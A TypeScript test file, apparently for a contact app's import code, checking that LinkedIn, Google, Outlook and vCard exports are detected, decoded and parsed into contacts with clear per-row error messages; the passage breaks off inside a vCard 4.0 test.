import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  ImportError,
  createBackup,
  decodeFileText,
  detectFormat,
  exportContactsCsv,
  exportInteractionsCsv,
  exportRemindersIcs,
  exportVcards,
  parseImport,
} from '@/lib/io';
import { foldLine } from '@/lib/io/content-lines';
import { startOfLocalDay } from '@/lib/reminders';
import { Contact, Interaction, Reminder, Settings } from '@/lib/model';

const NOW = Date.UTC(2026, 10, 22, 9, 0);

const LINKEDIN = [
  'Notes:',
  '"When exporting your connection data, you may notice that some of the email addresses are missing. You will only see email addresses for connections who have allowed their connections to see or download their email address using this setting https://www.linkedin.com/psettings/privacy/email. You can learn more here https://www.linkedin.com/help/linkedin/answer/261"',
  '',
  'First Name,Last Name,URL,Email Address,Company,Position,Connected On',
  'Ada,Quinlan,https://www.linkedin.com/in/ada-quinlan,Ada@Example.com,"Acme, Inc.",Staff Engineer,22 Nov 2026',
  'Bo,Lind,https://uk.linkedin.com/in/BoLind?trk=x,,Globex,"Head of ""Growth""",01 Mar 2019',
  ',,,,Initech,Analyst,05 Jan 2020',
  '',
].join('\n');

function contactOf(overrides: Partial<Contact> & { id: string; name: string }): Contact {
  return Contact.parse({ createdAt: NOW, updatedAt: NOW, ...overrides });
}

function thrown(run: () => unknown): ImportError {
  try {
    run();
  } catch (error) {
    if (error instanceof ImportError) return error;
    throw error;
  }
  throw new Error('expected an ImportError');
}

describe('detectFormat', () => {
  it('tells the four formats apart by content', () => {
    expect(detectFormat(LINKEDIN)).toBe('linkedin-csv');
    expect(detectFormat('\uFEFFFirst Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n')).toBe('linkedin-csv');
    expect(detectFormat('First Name,Middle Name,Last Name,Organization Name,E-mail 1 - Label,E-mail 1 - Value\n')).toBe('google-csv');
    expect(detectFormat('Name,Given Name,Family Name,E-mail 1 - Type,E-mail 1 - Value\n')).toBe('google-csv');
    expect(detectFormat('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nEND:VCARD\r\n')).toBe('vcard');
    expect(detectFormat('{"format":"kith-backup","version":1}')).toBe('kith-backup');
    expect(detectFormat('First Name,Last Name,E-mail Address,Job Title,Company\r\n')).toBe('outlook-csv');
    expect(detectFormat('"Vorname";"Nachname";"E-Mail-Adresse";"Position";"Firma"\r\n')).toBe('outlook-csv');
    expect(detectFormat('First Name;Last Name;E-mail 1 - Value\r\n')).toBe('google-csv');
    expect(detectFormat('{"hello":1}')).toBeUndefined();
    expect(detectFormat('a,b,c\n1,2,3')).toBeUndefined();
  });

  it('refuses an unknown file with a message saying what it takes', () => {
    expect(thrown(() => parseImport('a,b\n1,2\n', NOW)).message).toMatch(/^Line 1: not a file Kith can import/);
    expect(thrown(() => parseImport('\uFEFF \r\n\n', NOW)).message).toBe('Line 1: the file is empty');
  });
});

describe('decodeFileText', () => {
  const text = 'First Name,Last Name\nJosé,Müller Société';
  const windows1252 = Uint8Array.from(text, (ch) => ch.charCodeAt(0));

  it('reads UTF-8, and Windows-1252 (what Excel writes) when the bytes are not UTF-8', () => {
    expect(decodeFileText(new TextEncoder().encode(text))).toBe(text);
    expect(decodeFileText(windows1252)).toBe(text);
  });

  it('trusts a byte-order mark: UTF-8 and UTF-16 as Excel and Outlook write them', () => {
    expect(decodeFileText(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(text)]))).toBe(text);
    const utf16le = new Uint8Array([0xff, 0xfe, ...[...text].flatMap((ch) => [ch.charCodeAt(0) & 0xff, ch.charCodeAt(0) >> 8])]);
    expect(decodeFileText(utf16le)).toBe(text);
  });

  it('reads a UTF-8 vCard whose writer folded a line through the middle of a character', () => {
    const bytes = (text: string) => [...new TextEncoder().encode(text)];
    const fn = bytes('FN:Renée Müller');
    const split = fn.indexOf(0xa9); // the second byte of "é"
    const card = Uint8Array.from([
      ...bytes('BEGIN:VCARD\r\nVERSION:3.0\r\n'),
      ...fn.slice(0, split),
      ...bytes('\r\n '),
      ...fn.slice(split),
      ...bytes('\r\nNOTE:Met at the café\r\nEND:VCARD\r\n'),
    ]);
    expect(parseImport(decodeFileText(card), NOW).contacts[0].contact).toMatchObject({ name: 'Renée Müller', notes: 'Met at the café' });
    // With a byte-order mark too.
    expect(parseImport(decodeFileText(Uint8Array.from([0xef, 0xbb, 0xbf, ...card])), NOW).contacts[0].contact.name).toBe('Renée Müller');
  });

  it('a Windows-1252 LinkedIn export imports with its accents', () => {
    const csv = `First Name,Last Name,URL,Email Address,Company,Position,Connected On\nJosé,Müller,https://www.linkedin.com/in/jose-muller,,Société Générale,Analyste,1 Mar 2020\n`;
    const batch = parseImport(decodeFileText(Uint8Array.from(csv, (ch) => ch.charCodeAt(0))), NOW);
    expect(batch.contacts[0].contact).toMatchObject({ name: 'José Müller', company: 'Société Générale' });
  });
});

describe('LinkedIn Connections.csv', () => {
  const linkedinRow = (connectedOn: string) => `First Name,Last Name,URL,Email Address,Company,Position,Connected On\nAda,Quinlan,,,,,"${connectedOn}"\n`;

  it.each([';', '\t'])('reads the file saved again by a spreadsheet that parts columns with %j', (delimiter) => {
    const text = LINKEDIN.split('\n')
      .map((line, i) => (i < 3 ? line : line.replaceAll('"Acme, Inc."', 'Acme, Inc.').replaceAll(',', delimiter).replace(`Acme${delimiter} Inc.`, 'Acme, Inc.')))
      .join('\n');
    const batch = parseImport(text, NOW);
    expect(batch.format).toBe('linkedin-csv');
    expect(batch.contacts.map(({ where, contact }) => [where, contact.name, contact.company, contact.title])).toEqual([
      ['Row 1 (line 5)', 'Ada Quinlan', 'Acme, Inc.', 'Staff Engineer'],
      ['Row 2 (line 6)', 'Bo Lind', 'Globex', 'Head of "Growth"'],
    ]);
  });

  it('skips the Notes preamble, reads quoted fields and canonicalises profile links', () => {
    const batch = parseImport(LINKEDIN, NOW);
    expect(batch.format).toBe('linkedin-csv');
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map((c) => c.where)).toEqual(['Row 1 (line 5)', 'Row 2 (line 6)']);
    const [ada, bo] = batch.contacts.map((c) => c.contact);
    expect(ada).toMatchObject({
      name: 'Ada Quinlan',
      company: 'Acme, Inc.',
      title: 'Staff Engineer',
      emails: ['ada@example.com'],
      profileUrl: 'https://www.linkedin.com/in/ada-quinlan/',
      notes: 'Connected on LinkedIn on 22 Nov 2026.',
      sources: [{ kind: 'import', at: NOW }],
      relationship: 'other',
    });
    expect(bo).toMatchObject({ name: 'Bo Lind', title: 'Head of "Growth"', emails: [], profileUrl: 'https://www.linkedin.com/in/bolind/' });
    expect(batch.skipped).toEqual([{ where: 'Row 3 (line 7)', reason: expect.stringMatching(/no name, email or profile link/) }]);
  });

  it('names the row and line of an unclosed quote', () => {
    const text = LINKEDIN.replace(',,,,Initech', '",,,,Initech');
    expect(thrown(() => parseImport(text, NOW)).message).toBe('Row 3 (line 7): a quoted field is never closed');
    const stray = LINKEDIN.replace('Bo,Lind', '"Bo"x,Lind');
    expect(thrown(() => parseImport(stray, NOW)).message).toMatch(/^Row 2 \(line 6\): a quote is misplaced/);
  });

  it('names the row and line of a row with the wrong number of fields', () => {
    const text = LINKEDIN.replace('Bo,Lind,', 'Bo,');
    expect(thrown(() => parseImport(text, NOW)).message).toBe('Row 2 (line 6): has 6 fields where the header has 7');
    // Also in a file from an old Mac, whose lines end in a lone CR.
    expect(thrown(() => parseImport(text.replaceAll('\n', '\r'), NOW)).message).toBe('Row 2 (line 6): has 6 fields where the header has 7');
  });

  it('keeps a connection date a spreadsheet rewrote in its own language, and no text that is no date', () => {
    const notesOf = (date: string) => parseImport(linkedinRow(date), NOW).contacts[0].contact.notes;
    expect(notesOf('13.03.2024')).toBe('Connected on LinkedIn on 13.03.2024.');
    expect(notesOf('13 mars 2024')).toBe('Connected on LinkedIn on 13 mars 2024.');
    expect(notesOf('2024-03-13 00:00:00')).toBe('Connected on LinkedIn on 2024-03-13 00:00:00.');
    expect(notesOf('=HYPERLINK(1)')).toBe('');
    expect(notesOf('soon')).toBe('');
  });

  it('counts lines inside quoted fields that hold line breaks', () => {
    const text = `First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"A\nB",C,,,,,\nD,E,,x@y.com,,,\nF,G,,\n`;
    expect(thrown(() => parseImport(text, NOW)).message).toBe('Row 3 (line 5): has 4 fields where the header has 7');
  });

  it('lists rows that are not valid contacts, by row', () => {
    const text = LINKEDIN.replace('Ada@Example.com', 'not-an-email');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([{ where: 'Row 1 (line 5)', reason: 'Email 1: Not an email address: not-an-email' }]);
    expect(batch.contacts).toHaveLength(1);
  });
});

describe('imported contacts', () => {
  const GOOGLE = 'First Name,Last Name,E-mail 1 - Value\nEun-ji,Müller,eun@example.com\nFarah,Haddad,\n';
  const VCARD = 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Cleo Park\r\nEMAIL:cleo@example.com\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nFN:Dev Okafor\r\nEND:VCARD\r\n';

  it.each([
    ['LinkedIn', LINKEDIN],
    ['Google', GOOGLE],
    ['vCard', VCARD],
  ])('are whole contacts, as parsing each as a contact would make them, whose shared parts cannot change (%s)', (_, text) => {
    const contacts = parseImport(text, NOW).contacts.map((c) => c.contact);
    expect(contacts).toHaveLength(2);
    for (const contact of contacts) expect(contact).toEqual(Contact.parse(contact));
    const [first, second] = contacts;
    expect(() => first.sources.push({ kind: 'manual', at: NOW })).toThrow(TypeError);
    expect(second.sources).toEqual([{ kind: 'import', at: NOW }]);
  });
});

describe('text longer than Kith keeps', () => {
  const GOOGLE_HEADER = 'First Name,Last Name,Organization Title,Notes,Labels,E-mail 1 - Value,Phone 1 - Value';
  const google = (...rows: string[]) => [GOOGLE_HEADER, ...rows, ''].join('\n');

  it('makes a row invalid, naming the field, its length and the limit, instead of cutting it', () => {
    const batch = parseImport(
      google(
        'Ada,Quinlan,,,,ada@example.com,',
        `Bo,Lind,,"${'n'.repeat(25_000)}",,,`,
        `${'C'.repeat(250)},Park,,,,,`,
        `Dev,Okafor,${'t'.repeat(301)},,,,`,
        `Eli,Brandt,,,${'x'.repeat(61)},,`,
        `Fay,Chen,,,,,${'1'.repeat(65)}`,
      ),
      NOW,
    );
    expect(batch.invalid).toEqual([
      { where: 'Row 2 (line 3)', reason: 'notes are 25,000 characters; Kith keeps up to 20,000' },
      { where: 'Row 3 (line 4)', reason: 'name is 255 characters; Kith keeps up to 200' },
      { where: 'Row 4 (line 5)', reason: 'title is 301 characters; Kith keeps up to 300' },
      { where: 'Row 5 (line 6)', reason: 'a tag is 61 characters; Kith keeps up to 60' },
      { where: 'Row 6 (line 7)', reason: 'a phone number is 65 characters; Kith keeps up to 64' },
    ]);
    expect(batch.contacts.map((c) => c.contact.name)).toEqual(['Ada Quinlan']);
  });

  it('measures text as Kith keeps it (spaces folded, invisible characters dropped), and counts a list’s distinct items', () => {
    const notes = 'word\u200b\r\n'.repeat(4_000);
    expect(notes.length).toBeGreaterThan(20_000);
    const batch = parseImport(google(`Bo,${'Lind'.padStart(300)},,"${notes}",,,`), NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts[0].contact.name).toBe('Bo Lind');
    const emails = Array.from({ length: 51 }, (_, i) => `p${i}@example.com`).join(' ::: ');
    expect(parseImport(google(`Cy,Park,,,,${emails},`), NOW).invalid).toEqual([
      { where: 'Row 1 (line 2)', reason: 'has 51 email addresses; Kith keeps up to 50' },
    ]);
    // The same address twice is one.
    const twice = [...Array.from({ length: 50 }, (_, i) => `p${i}@example.com`), 'P0@Example.com'].join(' ::: ');
    expect(parseImport(google(`Cy,Park,,,,${twice},`), NOW).invalid).toEqual([]);
  });

  it('refuses a vCard card and a LinkedIn row the same way', () => {
    const vcard = `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:${'N'.repeat(250)}\r\nADR:;;${'a'.repeat(501)};;;;\r\nEND:VCARD\r\n`;
    expect(parseImport(vcard, NOW).invalid).toEqual([{ where: 'Card 1 (line 1)', reason: 'name is 250 characters; Kith keeps up to 200' }]);
    const adr = `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ada\r\nADR:;;${'a'.repeat(501)};;;;\r\nEND:VCARD\r\n`;
    expect(parseImport(adr, NOW).invalid).toEqual([{ where: 'Card 1 (line 1)', reason: 'an address is 501 characters; Kith keeps up to 500' }]);
    const linkedin = LINKEDIN.replace('Acme, Inc.', 'c'.repeat(201));
    expect(parseImport(linkedin, NOW).invalid).toEqual([{ where: 'Row 1 (line 5)', reason: 'company is 201 characters; Kith keeps up to 200' }]);
  });

  it('refuses a backup’s contact, interaction or reminder whose text would be cut', () => {
    const backup = JSON.stringify({
      format: 'kith-backup',
      version: 1,
      contacts: [
        { id: 'c1', name: 'Jane', location: 'l'.repeat(201), createdAt: 1, updatedAt: 1 },
        { id: 'c2', name: 'Bo', createdAt: 1, updatedAt: 1 },
      ],
      interactions: [{ id: 'i1', contactId: 'c2', at: 1, summary: 's'.repeat(5_001) }],
      reminders: [{ id: 'r1', contactId: 'c2', kind: 'promise', dueAt: 1, createdAt: 1, note: 'r'.repeat(1_001) }],
    });
    expect(parseImport(backup, NOW).invalid).toEqual([
      { where: 'Contact 1', reason: 'location is 201 characters; Kith keeps up to 200' },
      { where: 'Interaction 1', reason: 'summary is 5,001 characters; Kith keeps up to 5,000' },
      { where: 'Reminder 1', reason: 'note is 1,001 characters; Kith keeps up to 1,000' },
    ]);
  });
});

describe('Google Contacts CSV', () => {
  it('reads the current export with several emails, phones and labels', () => {
    const text = [
      'First Name,Middle Name,Last Name,Nickname,Organization Name,Organization Title,Notes,Labels,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,Phone 1 - Label,Phone 1 - Value,Address 1 - Label,Address 1 - Formatted,Website 1 - Label,Website 1 - Value',
      'Cleo,M.,Park,,Umbrella,CTO,"Met at ""DevConf""\nSpoke about hiring",Mentors ::: * myContacts,Work,cleo@umbrella.com,Home,cleo@home.org ::: cleo2@home.org,Mobile,+44 7700 900123,Home,"1 High St\nLondon",Profile,https://www.linkedin.com/in/cleopark',
    ].join('\n');
    const batch = parseImport(text, NOW);
    expect(batch.format).toBe('google-csv');
    expect(batch.contacts[0].contact).toMatchObject({
      name: 'Cleo M. Park',
      company: 'Umbrella',
      title: 'CTO',
      emails: ['cleo@umbrella.com', 'cleo@home.org', 'cleo2@home.org'],
      phones: ['+44 7700 900123'],
      addresses: ['1 High St, London'],
      profileUrl: 'https://www.linkedin.com/in/cleopark/',
      tags: ['Mentors'],
      notes: 'Met at "DevConf"\nSpoke about hiring',
    });
  });

  it('reads the export saved again by a spreadsheet, with semicolons or tabs between columns', () => {
    const rows = [
      ['First Name', 'Last Name', 'Organization Name', 'Notes', 'E-mail 1 - Value'],
      ['Jörg', 'Weiß', 'Müller, Schmidt & Co.', 'Kaffee; 2,5 Tassen', 'joerg@example.de'],
    ];
    for (const delimiter of [';', '\t']) {
      const text = rows.map((row) => row.map((cell) => (cell.includes(delimiter) ? `"${cell}"` : cell)).join(delimiter)).join('\r\n');
      expect(detectFormat(text)).toBe('google-csv');
      expect(parseImport(text, NOW).contacts[0].contact).toMatchObject({
        name: 'Jörg Weiß',
        company: 'Müller, Schmidt & Co.',
        notes: 'Kaffee; 2,5 Tassen',
        emails: ['joerg@example.de'],
      });
    }
  });

  it('reads the addresses of an email cell that holds several, or a mail app’s "Name <address>"', () => {
    const text = [
      'First Name,Last Name,E-mail 1 - Value,E-mail 2 - Value',
      'Jane,Doe,Jane Doe <jane@example.com>,"Doe, Jane <j.doe@work.example>"',
      'Bo,Lind,bo@example.com; bo@work.example,',
      'Cy,New,cy@x,',
    ].join('\n');
    const batch = parseImport(text, NOW);
    expect(batch.contacts.map(({ contact }) => contact.emails)).toEqual([
      ['jane@example.com', 'j.doe@work.example'],
      ['bo@example.com', 'bo@work.example'],
    ]);
    expect(batch.invalid).toEqual([{ where: 'Row 3 (line 4)', reason: 'Email 1: Not an email address: cy@x' }]);
  });

  it('keeps in the notes what a contact has no field for: department, nickname, birthday', () => {
    const google = 'First Name,Last Name,Nickname,Birthday,Organization Name,Organization Department,Notes,E-mail 1 - Value\nAda,Quinlan,Ace,1990-04-02,Acme,Research,Met in Lisbon,ada@q.example\n';
    expect(parseImport(google, NOW).contacts[0].contact.notes).toBe('Met in Lisbon\n\nDepartment: Research\nNickname: Ace\nBirthday: 1990-04-02');
    const outlook = 'First Name,Last Name,Company,Department,Birthday,E-mail Address\nBo,Lind,Globex,Sales,0/0/00,bo@lind.se\n';
    expect(parseImport(outlook, NOW).contacts[0].contact.notes).toBe('Department: Sales');
    const card = ['BEGIN:VCARD', 'VERSION:3.0', 'FN:Cy Okafor', 'NICKNAME:Cee', 'BDAY:1985-11-30', 'END:VCARD'].join('\r\n');
    expect(parseImport(card, NOW).contacts[0].contact.notes).toBe('Nickname: Cee\nBirthday: 1985-11-30');
    // A card with no name but its nickname is named by it.
    const nicknamed = ['BEGIN:VCARD', 'VERSION:3.0', 'N:;;;;', 'NICKNAME:Plumber', 'TEL:+47 22 00 00 00', 'END:VCARD'].join('\r\n');
    expect(parseImport(nicknamed, NOW).contacts[0].contact).toMatchObject({ name: 'Plumber', phones: ['+47 22 00 00 00'] });
  });

  it('reads a business card, named by its company or its phone, as Google Contacts lists it', () => {
    const text = ['First Name,Last Name,Organization Name,Notes,Phone 1 - Value', ',,Acme Plumbing,Fixed the boiler,+1 555 0100', ',,,,+47 900 00 000', ',,,,'].join('\n');
    const batch = parseImport(text, NOW);
    expect(batch.contacts.map(({ contact }) => [contact.name, contact.company, contact.phones, contact.notes])).toEqual([
      ['Acme Plumbing', 'Acme Plumbing', ['+1 555 0100'], 'Fixed the boiler'],
      ['+47 900 00 000', '', ['+47 900 00 000'], ''],
    ]);
    expect(batch.skipped).toEqual([{ where: 'Row 3 (line 4)', reason: 'no name, email, phone, company or website' }]);
  });

  it('reads a file with blank lines before the header, naming rows by their true lines', () => {
    const text = '\uFEFF\r\n  \r\nFirst Name,Last Name,E-mail 1 - Value\r\nAda,Quinlan,ada@example.com\r\n';
    expect(detectFormat(text)).toBe('google-csv');
    const batch = parseImport(text, NOW);
    expect(batch.contacts.map(({ where, contact }) => [where, contact.name, contact.emails])).toEqual([['Row 1 (line 4)', 'Ada Quinlan', ['ada@example.com']]]);
    expect(thrown(() => parseImport(`${text}Bo,Lind\r\n`, NOW)).message).toBe('Row 2 (line 5): has 2 fields where the header has 3');
  });

  it('keeps every website: a LinkedIn or own page as the profile link, a work site and the rest in the notes', () => {
    const header = 'First Name,Last Name,Notes,E-mail 1 - Value,Website 1 - Label,Website 1 - Value,Website 2 - Label,Website 2 - Value';
    const text = [
      header,
      // Typed without a scheme, as address books let people.
      'Ada,Quinlan,,ada@adaq.dev,Homepage,www.adaq.dev,,',
      // The employer's site is shared by colleagues: as a profile link it would make them one person.
      'Bo,Lind,Met at the fair,bo@acme.com,Work,https://www.acme.com,Blog ::: Profile,https://bo.blog ::: https://www.linkedin.com/in/bolind',
      'Cy,Moss,,cy@acme.com,Work,https://www.acme.com/,,',
    ].join('\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map(({ contact }) => [contact.profileUrl, contact.notes])).toEqual([
      ['https://www.adaq.dev/', ''],
      ['https://www.linkedin.com/in/bolind/', 'Met at the fair\n\nWork web page: https://www.acme.com\nWeb page: https://bo.blog'],
      [undefined, 'Work web page: https://www.acme.com/'],
    ]);
  });

  it('is read as Google’s even when a note holds a pasted vCard', () => {
    const text = 'First Name,Last Name,Notes,E-mail 1 - Value\nAda,Q,"her card:\nBEGIN:VCARD\nFN:Ada Q\nEND:VCARD",ada@x.com\n';
    expect(detectFormat(text)).toBe('google-csv');
    expect(parseImport(text, NOW).contacts[0].contact.notes).toBe('her card:\nBEGIN:VCARD\nFN:Ada Q\nEND:VCARD');
  });

  it('reads the older export (Name, Organization 1 - Name)', () => {
    const text =
      'Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,Organization 1 - Name,Organization 1 - Title\r\n' +
      'Dan Roe,Dan,Roe,* My Contacts ::: Friends,* Work,dan@roe.net,Roe Ltd,Owner\r\n';
    expect(parseImport(text, NOW).contacts[0].contact).toMatchObject({
      name: 'Dan Roe',
      emails: ['dan@roe.net'],
      company: 'Roe Ltd',
      title: 'Owner',
      tags: ['Friends'],
    });
  });
});

describe('Outlook contacts CSV', () => {
  const OUTLOOK_COM =
    "First Name,Middle Name,Last Name,Title,Suffix,Nickname,Given Yomi,Surname Yomi,E-mail Address,E-mail 2 Address,E-mail 3 Address,Home Phone,Home Phone 2,Business Phone,Business Phone 2,Mobile Phone,Car Phone,Other Phone,Primary Phone,Pager,Business Fax,Home Fax,Other Fax,Company Main Phone,Callback,Radio Phone,Telex,TTY/TDD Phone,IMAddress,Job Title,Department,Company,Office Location,Manager's Name,Assistant's Name,Assistant's Phone,Company Yomi,Business Street,Business City,Business State,Business Postal Code,Business Country/Region,Home Street,Home City,Home State,Home Postal Code,Home Country/Region,Other Street,Other City,Other State,Other Postal Code,Other Country/Region,Personal Web Page,Spouse,Schools,Hobby,Location,Web Page,Birthday,Anniversary,Notes";
  const row = (values: Record<string, string>) => {
    const columns = OUTLOOK_COM.split(',');
    return columns.map((column) => {
      const value = values[column] ?? '';
      return /[",\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
    }).join(',');
  };

  it('reads Outlook.com’s export: job title (not the honorific), every email and phone but the assistant’s and the switchboard, addresses, web pages, notes', () => {
    const text = [
      OUTLOOK_COM,
      row({
        'First Name': 'Ada',
        'Last Name': 'Quinlan',
        Title: 'Dr.',
        'E-mail Address': 'ada@acme.com',
        'E-mail 2 Address': '/o=ExchangeLabs/ou=Exchange Administrative Group/cn=Recipients/cn=ada',
        'E-mail 3 Address': 'ada@home.org',
        'Business Phone': '+1 555 0100',
        'Mobile Phone': '+1 555 0199',
        "Assistant's Phone": '+1 555 0111',
        'Company Main Phone': '+1 555 0000',
        'Job Title': 'Staff Engineer',
        Company: 'Acme, Inc.',
        'Business Street': '1 Main St',
        'Business City': 'Springfield',
        'Business State': 'IL',
        'Business Country/Region': 'United States',
        'Home City': 'Shelbyville',
        'Web Page': 'https://www.acme.com',
        'Personal Web Page': 'adaq.dev',
        Notes: 'Met at the fair, Berlin.\nOwes me a call.',
      }),
      row({ Company: 'Initech', 'Business Phone': '+1 555 0123' }),
      row({}),
    ].join('\r\n');
    expect(detectFormat(text)).toBe('outlook-csv');
    const batch = parseImport(`\uFEFF${text}`, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.skipped).toEqual([{ where: 'Row 3 (line 5)', reason: 'no name, email or company' }]);
    expect(batch.contacts[0].contact).toMatchObject({
      name: 'Ada Quinlan',
      title: 'Staff Engineer',
      company: 'Acme, Inc.',
      location: 'Springfield, IL, United States',
      emails: ['ada@acme.com', 'ada@home.org'],
      phones: ['+1 555 0100', '+1 555 0199'],
      addresses: ['1 Main St, Springfield, IL, United States', 'Shelbyville'],
      profileUrl: 'https://adaq.dev/',
      notes: 'Met at the fair, Berlin.\nOwes me a call.\n\nWork web page: https://www.acme.com',
    });
    // A company's card, as Outlook keeps them, is named after the company.
    expect(batch.contacts[1].contact).toMatchObject({ name: 'Initech', company: 'Initech', phones: ['+1 555 0123'] });
  });

  it('reads the German desktop app’s export, its columns named in German', () => {
    const header =
      'Anrede,Vorname,Weitere Vornamen,Nachname,Suffix,Firma,Abteilung,Position,Straße geschäftlich,Straße geschäftlich 2,Straße geschäftlich 3,Ort geschäftlich,Region geschäftlich,Postleitzahl geschäftlich,Land/Region geschäftlich,Straße privat,Straße privat 2,Straße privat 3,Ort privat,Bundesland/Kanton privat,Postleitzahl privat,Land/Region privat,Weitere Straße,Weitere Straße 2,Weitere Straße 3,Weiterer Ort,Weiteres/r Bundesland/Kanton,Weitere Postleitzahl,Weiteres/e Land/Region,Telefon Assistent,Fax geschäftlich,Telefon geschäftlich,Telefon geschäftlich 2,Rückmeldung,Autotelefon,Telefon Firma,Fax privat,Telefon (privat),Telefon (privat 2),ISDN,Mobiltelefon,Weiteres Fax,Weiteres Telefon,Pager,Haupttelefon,Mobiltelefon 2,Telefon für Hörbehinderte,Telex,Abrechnungsinformation,Assistent(in),Benutzer 1,Benutzer 2,Benutzer 3,Benutzer 4,Beruf,Büro,E-Mail-Adresse,E-Mail-Typ,E-Mail: Angezeigter Name,E-Mail 2: Adresse,E-Mail 2: Typ,E-Mail 2: Angezeigter Name,E-Mail 3: Adresse,E-Mail 3: Typ,E-Mail 3: Angezeigter Name,Empfohlen von,Geburtstag,Geschlecht,Hobby,Initialen,Internet Frei/Gebucht,Jahrestag,Kategorien,Kinder,Konto,Name des/r Vorgesetzten,Notizen,Organisationsnr.,Ort,Partner,Postfach geschäftlich,Postfach privat,Priorität,Privat,Reisekilometer,Sozialversicherungsnr.,Sprache,Stichwörter,Vertraulichkeit,Verzeichnisserver,Webseite,Weiteres Postfach';
    const values: Record<string, string> = {
      Anrede: 'Dr.',
      Vorname: 'Jürgen',
      Nachname: 'Müller',
      Firma: 'Acme GmbH',
      Position: 'Leiter Einkauf',
      'Straße geschäftlich': 'Hauptstraße 1',
      'Ort geschäftlich': 'Berlin',
      'Postleitzahl geschäftlich': '10115',
      'Land/Region geschäftlich': 'Deutschland',
      'Telefon Assistent': '+49 30 1111',
      'Telefon geschäftlich': '+49 30 1234',
      'Telefon Firma': '+49 30 0000',
      Mobiltelefon: '+49 170 1234567',
      'E-Mail-Adresse': 'juergen@acme.de',
      'E-Mail 2: Adresse': 'j.mueller@web.de',
      Kategorien: 'Mentoren;Berlin',
      Notizen: 'Kennengelernt auf der Messe, Halle 3.',
    };
    const row = header.split(',').map((column) => (values[column]?.includes(',') ? `"${values[column]}"` : (values[column] ?? ''))).join(',');
    const text = `${header}\r\n${row}\r\n`;
    expect(detectFormat(text)).toBe('outlook-csv');
    expect(parseImport(text, NOW).contacts[0].contact).toMatchObject({
      name: 'Jürgen Müller',
      title: 'Leiter Einkauf',
      company: 'Acme GmbH',
      location: 'Berlin, Deutschland',
      emails: ['juergen@acme.de', 'j.mueller@web.de'],
      phones: ['+49 30 1234', '+49 170 1234567'],
      addresses: ['Hauptstraße 1, Berlin, 10115, Deutschland'],
      tags: ['Mentoren', 'Berlin'],
      notes: 'Kennengelernt auf der Messe, Halle 3.',
    });
  });

  it('reads the desktop app’s export, with its categories as tags', () => {
    const text =
      '"First Name","Middle Name","Last Name","Title","Suffix","Company","Department","Job Title","Business Street","Business City","Business Postal Code","Business Country","Mobile Phone","Categories","E-mail Address","E-mail Type","E-mail Display Name","Notes"\r\n' +
      '"Jürgen","","Müller","","","Acme GmbH","","CTO","Straße 1","Berlin","10115","Germany","+49 170 1234567","Mentors;Berlin","juergen@acme.de","SMTP","Jürgen Müller (juergen@acme.de)",""\r\n';
    const batch = parseImport(text, NOW);
    expect(batch.format).toBe('outlook-csv');
    expect(batch.contacts[0].contact).toMatchObject({
      name: 'Jürgen Müller',
      title: 'CTO',
      company: 'Acme GmbH',
      location: 'Berlin, Germany',
      emails: ['juergen@acme.de'],
      phones: ['+49 170 1234567'],
      addresses: ['Straße 1, Berlin, 10115, Germany'],
      tags: ['Mentors', 'Berlin'],
    });
  });
});

describe('vCard', () => {
  it('reads 3.0: folded lines, escapes, grouped properties, several emails and phones', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:3.0',
      'N:Doe;Jane;Q.;Dr.;',
      'FN:Jane Doe',
      'ORG:Acme\\, Inc.;R&D',
      'TITLE:Chief\\, Engineering',
      'item1.EMAIL;type=INTERNET;type=pref:jane@exa',
      ' mple.com',
      'item1.X-ABLabel:_$!<Work>!$_',
      'EMAIL;TYPE=HOME:Jane.Home@Example.org',
      'TEL;TYPE=CELL:+1 555 0100',
      'item2.TEL:+1 555 0199',
      'ADR;TYPE=WORK:;;1 Main St;Springfield;IL;62701;USA',
      'NOTE:First line\\nsecond\\; with semicolon\\, and comma',
      'URL:https://www.linkedin.com/in/jane-doe?trk=abc',
      'CATEGORIES:Mentors,Chicago',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:3.0',
      'N:Smith;John;;;',
      'EMAIL:john@smith.io',
      'END:VCARD',
      '',
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.format).toBe('vcard');
    expect(batch.contacts.map((c) => c.where)).toEqual(['Card 1 (line 1)', 'Card 2 (line 18)']);
    expect(batch.contacts[0].contact).toMatchObject({
      name: 'Jane Doe',
      company: 'Acme, Inc.',
      title: 'Chief, Engineering',
      emails: ['jane@example.com', 'jane.home@example.org'],
      phones: ['+1 555 0100', '+1 555 0199'],
      addresses: ['1 Main St, Springfield, IL, 62701, USA'],
      // ORG's second part is the department, which a contact has no field for.
      notes: 'First line\nsecond; with semicolon, and comma\n\nDepartment: R&D',
      profileUrl: 'https://www.linkedin.com/in/jane-doe/',
      tags: ['Mentors', 'Chicago'],
    });
    expect(batch.contacts[1].contact).toMatchObject({ name: 'John Smith', emails: ['john@smith.io'] });
  });

  it('reads 4.0 with parameters quoted and values escaped, LF line endings and tab folding', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:4.0',
      'FN:Zoë Ångström',
      'EMAIL;TYPE="work,voice";PREF=1:zoe@example.se',
      'TEL;VALUE=uri;TYPE="voice,cell":tel:+46-8-123-456',
      'ORG:Nordic AB',
      'NOTE:Long note that goes on',
      '\tand on',
      'END:VCARD',
    ].join('\n');
    expect(parseImport(text, NOW).contacts[0].contact).toMatchObject({
      name: 'Zoë Ångström',
      emails: ['zoe@example.se'],
